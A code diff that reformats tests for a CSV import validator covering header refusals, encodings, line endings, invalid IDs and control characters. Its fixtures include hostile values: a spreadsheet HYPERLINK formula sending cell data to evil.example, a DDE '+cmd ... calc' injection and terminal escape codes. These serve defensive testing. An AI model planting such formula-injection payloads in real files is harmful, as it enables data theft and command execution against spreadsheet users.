@@ -46,11 +46,21 @@ describe('file-level refusals (exit 2)', () => {
   });
 
   it('duplicate columns name both columns and their positions', async () => {
-    await expectRefused('dup.csv', 'ID,TITLE,Title\n1,a,b\n', 'DUPLICATE_COLUMN', /duplicate column "Title" \(column 3: TITLE is already set by "TITLE", column 2\)/);
+    await expectRefused(
+      'dup.csv',
+      'ID,TITLE,Title\n1,a,b\n',
+      'DUPLICATE_COLUMN',
+      /duplicate column "Title" \(column 3: TITLE is already set by "TITLE", column 2\)/,
+    );
   });
 
   it('an unknown column is named, with a suggestion; every header problem is listed in one refusal', async () => {
-    await expectRefused('unknown.csv', 'ID,TITEL,PHONE_CELL\n1,a,b\n', 'UNKNOWN_COLUMN', /unknown column "TITEL" \(did you mean TITLE\?\)[\s\S]*PHONE_CELL/);
+    await expectRefused(
+      'unknown.csv',
+      'ID,TITEL,PHONE_CELL\n1,a,b\n',
+      'UNKNOWN_COLUMN',
+      /unknown column "TITEL" \(did you mean TITLE\?\)[\s\S]*PHONE_CELL/,
+    );
   });
 
   it('binary garbage: NUL bytes, a ZIP/xlsx, control-character soup', async () => {
@@ -59,7 +69,12 @@ describe('file-level refusals (exit 2)', () => {
     const garbage = Buffer.from(Array.from({ length: 20_000 }, rnd));
     expect(garbage.includes(0)).toBe(true);
     await expectRefused('garbage.csv', garbage, 'NOT_TEXT', /not a CSV text file: it contains NUL bytes/);
-    await expectRefused('book.csv', Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(100, 1)]), 'NOT_TEXT', /Excel workbook \(\.xlsx\)/);
+    await expectRefused(
+      'book.csv',
+      Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(100, 1)]),
+      'NOT_TEXT',
+      /Excel workbook \(\.xlsx\)/,
+    );
     const soup = Buffer.from(Array.from({ length: 5000 }, (_, i) => (i % 3 === 0 ? 0x41 : 1 + (i % 8))));
     await expectRefused('soup.csv', soup, 'NOT_TEXT', /control characters/);
   });
@@ -72,11 +87,26 @@ describe('file-level refusals (exit 2)', () => {
 
   it('a hostile header (a 900 KB cell, 20,000 unknown columns, escape codes) gets a bounded message', async () => {
     // The refusal travels in the run state (Step Functions: 256 KB) and is printed: it must stay small.
-    const huge = await expectRefused('hugeheader.csv', `ID,TITLEX${'x'.repeat(900_000)}\n1,a\n`, 'UNKNOWN_COLUMN', /unknown column "TITLEXx+…"/);
+    const huge = await expectRefused(
+      'hugeheader.csv',
+      `ID,TITLEX${'x'.repeat(900_000)}\n1,a\n`,
+      'UNKNOWN_COLUMN',
+      /unknown column "TITLEXx+…"/,
+    );
     expect(huge.files.summaryText.length).toBeLessThan(2000);
-    const many = await expectRefused('manyheader.csv', `ID,${Array.from({ length: 20_000 }, (_, i) => `COL${i}`).join(',')}\n1\n`, 'UNKNOWN_COLUMN', /… and 19980 more problems/);
+    const many = await expectRefused(
+      'manyheader.csv',
+      `ID,${Array.from({ length: 20_000 }, (_, i) => `COL${i}`).join(',')}\n1\n`,
+      'UNKNOWN_COLUMN',
+      /… and 19980 more problems/,
+    );
     expect(many.stderr.length).toBeLessThan(10_000);
-    const esc = await expectRefused('escheader.csv', `ID,\x1b[2J\x1b]0;pwned\x07\n${'1,a\n'.repeat(50)}`, 'UNKNOWN_COLUMN', /unknown column "\\u001B\[2J\\u001B\]0;pwned\\u0007"/);
+    const esc = await expectRefused(
+      'escheader.csv',
+      `ID,\x1b[2J\x1b]0;pwned\x07\n${'1,a\n'.repeat(50)}`,
+      'UNKNOWN_COLUMN',
+      /unknown column "\\u001B\[2J\\u001B\]0;pwned\\u0007"/,
+    );
     expect(esc.stderr + esc.files.summaryText).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
   });
 
@@ -84,7 +114,12 @@ describe('file-level refusals (exit 2)', () => {
     const text = 'ID,TITLE\r\n1,Заявка\r\n';
     const le = Buffer.from(text, 'utf16le');
     const be = Buffer.from(le).swap16();
-    await expectRefused('u16le.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), le]), 'UNSUPPORTED_ENCODING', /UTF-16.*save it as "CSV UTF-8"/);
+    await expectRefused(
+      'u16le.csv',
+      Buffer.concat([Buffer.from([0xff, 0xfe]), le]),
+      'UNSUPPORTED_ENCODING',
+      /UTF-16.*save it as "CSV UTF-8"/,
+    );
     await expectRefused('u16be.csv', Buffer.concat([Buffer.from([0xfe, 0xff]), be]), 'UNSUPPORTED_ENCODING', /UTF-16/);
     await expectRefused('u16raw.csv', le, 'UNSUPPORTED_ENCODING', /looks like UTF-16 text/);
   });
@@ -124,16 +159,20 @@ describe('rows: one report line each, in input order', () => {
   });
 
   it('mixed line endings (CRLF, LF, lone CR, quoted breaks): every record on its own line number', async () => {
-    const f = fixture('ID,TITLE', [
-      { raw: '1,a', eol: '\r\n' },
-      { raw: '2,b', eol: '\n' },
-      { raw: '3,c', eol: '\r' },
-      { raw: '4,"multi\r\nline"', eol: '\n' },
-      { raw: '', eol: '\r\n' },
-      { raw: 'x5,bad', eol: '\r' },
-      { raw: '6,"lone\rcr"', eol: '\r\n' },
-      { raw: '7,g', eol: '' },
-    ], { eol: '\r\n' });
+    const f = fixture(
+      'ID,TITLE',
+      [
+        { raw: '1,a', eol: '\r\n' },
+        { raw: '2,b', eol: '\n' },
+        { raw: '3,c', eol: '\r' },
+        { raw: '4,"multi\r\nline"', eol: '\n' },
+        { raw: '', eol: '\r\n' },
+        { raw: 'x5,bad', eol: '\r' },
+        { raw: '6,"lone\rcr"', eol: '\r\n' },
+        { raw: '7,g', eol: '' },
+      ],
+      { eol: '\r\n' },
+    );
     expect(f.lines).toEqual([2, 3, 4, 5, 8, 9, 11]);
     const r = await dryRun(dir, 'mixed.csv', f);
     expect(r.code).toBe(1);
@@ -143,8 +182,27 @@ describe('rows: one report line each, in input order', () => {
   });
 
   it('IDs that are zero, negative, decimal, huge or text: INVALID_ID naming line and column', async () => {
-    const ids = ['0', '-5', '1.5', '1,5', '99999999999999999999', '2147483648', 'abc', '+8', '1e3', '0x10', '#N/A', '', ' 7 ', '2147483647', '12abc'];
-    const f = fixture('ID;TITLE', ids.map((id) => `${id.includes(',') ? `"${id}"` : id};t`));
+    const ids = [
+      '0',
+      '-5',
+      '1.5',
+      '1,5',
+      '99999999999999999999',
+      '2147483648',
+      'abc',
+      '+8',
+      '1e3',
+      '0x10',
+      '#N/A',
+      '',
+      ' 7 ',
+      '2147483647',
+      '12abc',
+    ];
+    const f = fixture(
+      'ID;TITLE',
+      ids.map((id) => `${id.includes(',') ? `"${id}"` : id};t`),
+    );
     const r = await dryRun(dir, 'ids.csv', f);
     expect(r.code).toBe(1);
     expectConsistent(r.files, f);
@@ -165,7 +223,7 @@ describe('rows: one report line each, in input order', () => {
   it('formulas are data (valid, sent unchanged); control characters are refused by column, shown escaped', async () => {
     const f = fixture('ID,TITLE,COMMENTS', [
       '1,"=HYPERLINK(""http://evil.example/?q=""&A1,""click"")",ok',
-      '2,+cmd|\' /C calc\'!A0,-2+3',
+      "2,+cmd|' /C calc'!A0,-2+3",
       '3,a\x01b,c',
       '4,"x\x1b[31my",d',
       '5,@SUM(1),"tab\tinside"',
@@ -175,7 +233,10 @@ describe('rows: one report line each, in input order', () => {
     expect(r.code).toBe(1);
     expectConsistent(r.files, f);
     expect(r.files.report.map((x) => x.status)).toEqual(['valid', 'valid', 'invalid', 'invalid', 'valid', 'invalid']);
-    expect(r.files.report[2]).toMatchObject({ error_code: 'CONTROL_CHARACTER', error_message: 'line 4, TITLE: "a\\u0001b" contains a control character (U+0001)' });
+    expect(r.files.report[2]).toMatchObject({
+      error_code: 'CONTROL_CHARACTER',
+      error_message: 'line 4, TITLE: "a\\u0001b" contains a control character (U+0001)',
+    });
     expect(r.files.report[3].error_message).toBe('line 5, TITLE: "x\\u001B[31my" contains a control character (U+001B)');
     expect(r.files.report[5].error_message).toMatch(/^line 7, TITLE: .*U\+007F/);
     // No raw control character reaches the report; rejected.csv keeps them (checked byte for byte above).
